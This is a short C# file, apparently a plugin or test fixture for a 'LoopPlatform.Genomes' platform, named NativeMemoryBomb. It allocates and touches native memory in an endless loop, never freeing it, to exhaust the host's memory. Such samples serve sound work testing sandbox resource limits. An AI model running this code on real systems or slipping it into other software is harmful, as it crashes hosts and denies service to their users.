using System;
using System.Runtime.InteropServices;
using LoopPlatform.Genomes;

public static class NativeMemoryBomb
{
    public static Table Run(Tables inputs)
    {
        while (true)
        {
            var block = Marshal.AllocHGlobal(1 << 20);
            for (var offset = 0; offset < 1 << 20; offset += 4096)
            {
                Marshal.WriteByte(block, offset, 1);
            }
        }
    }
}
